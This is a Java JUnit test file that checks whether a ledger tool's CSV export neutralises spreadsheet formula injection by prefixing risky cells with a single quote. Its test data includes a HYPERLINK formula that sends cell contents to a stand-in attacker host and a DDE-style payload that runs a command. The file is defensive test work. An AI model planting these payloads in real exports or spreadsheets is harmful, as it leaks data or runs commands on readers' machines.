package io.pgephemeral.ledger;

import io.pgephemeral.testing.Cli;
import io.pgephemeral.testing.LedgerCopy;
import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * A requester writes the reason; an auditor opens the CSV export in a spreadsheet. A cell that
 * starts with {@code = + - @}, a tab or a carriage return is a formula there
 * ({@code =HYPERLINK(...)} becomes a live link), so by OWASP's rule for CSV injection such cells
 * are prefixed with a single quote, unless the auditor asks for raw values.
 */
class CsvFormulaTest {

    private static final List<String> FORMULAS = List.of("=HYPERLINK(\"https://evil.example/?\"&A1,\"report\")",
            "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tTAB=1+1", "\rCR=1+1");

    @Test
    void cellsThatASpreadsheetWouldRunAreNeutralised() {
        for (String formula : FORMULAS) {
            String cell = LedgerExport.csvField(formula, LedgerExport.CsvCells.NEUTRALISED);
            String unquoted = cell.startsWith("\"") ? cell.substring(1, cell.length() - 1).replace("\"\"", "\"") : cell;
            assertEquals("'" + formula, unquoted, formula);
        }
        // Nothing else changes: ordinary text, text with a formula character later, empty and NULL.
        assertEquals("ticket OPS-1", LedgerExport.csvField("ticket OPS-1", LedgerExport.CsvCells.NEUTRALISED));
        assertEquals("a=b", LedgerExport.csvField("a=b", LedgerExport.CsvCells.NEUTRALISED));
        assertEquals("\"\"", LedgerExport.csvField("", LedgerExport.CsvCells.NEUTRALISED));
        assertEquals("", LedgerExport.csvField(null, LedgerExport.CsvCells.NEUTRALISED));
        assertEquals("=1+1", LedgerExport.csvField("=1+1", LedgerExport.CsvCells.RAW));
    }

    @Test
    void theCommandNeutralisesByDefaultAndWritesRawValuesWhenAsked() throws Exception {
        try (LedgerCopy copy = new LedgerCopy()) {
            LedgerEntry base = LedgerCopy.entry(1);
            String reason = FORMULAS.get(0);
            copy.append(new LedgerEntry(null, base.credentialId(), base.runId(), 1, "requested", base.recordedAt(),
                    base.requester(), base.approver(), reason, base.target(), base.roleName(), base.secretId(),
                    base.validUntil(), base.actor(), "-1 session"));

            Cli.Run safe = Cli.run(Map.of(), "ledger", "export", "--format", "csv", "--schema", copy.schema());
            assertEquals(0, safe.exit(), safe.toString());
            assertTrue(safe.stdout().contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"report\"\")\","),
                    safe.stdout());
            assertTrue(safe.stdout().contains(",'-1 session,"), safe.stdout());
            assertFalse(safe.stdout().contains(",\"=HYPERLINK"), safe.stdout());

            Cli.Run raw = Cli.run(Map.of(), "ledger", "export", "--format", "csv", "--raw", "--schema", copy.schema());
            assertEquals(0, raw.exit(), raw.toString());
            assertTrue(raw.stdout().contains(",\"=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"report\"\")\","),
                    raw.stdout());
            assertTrue(raw.stdout().contains(",-1 session,"), raw.stdout());
        }
    }
}
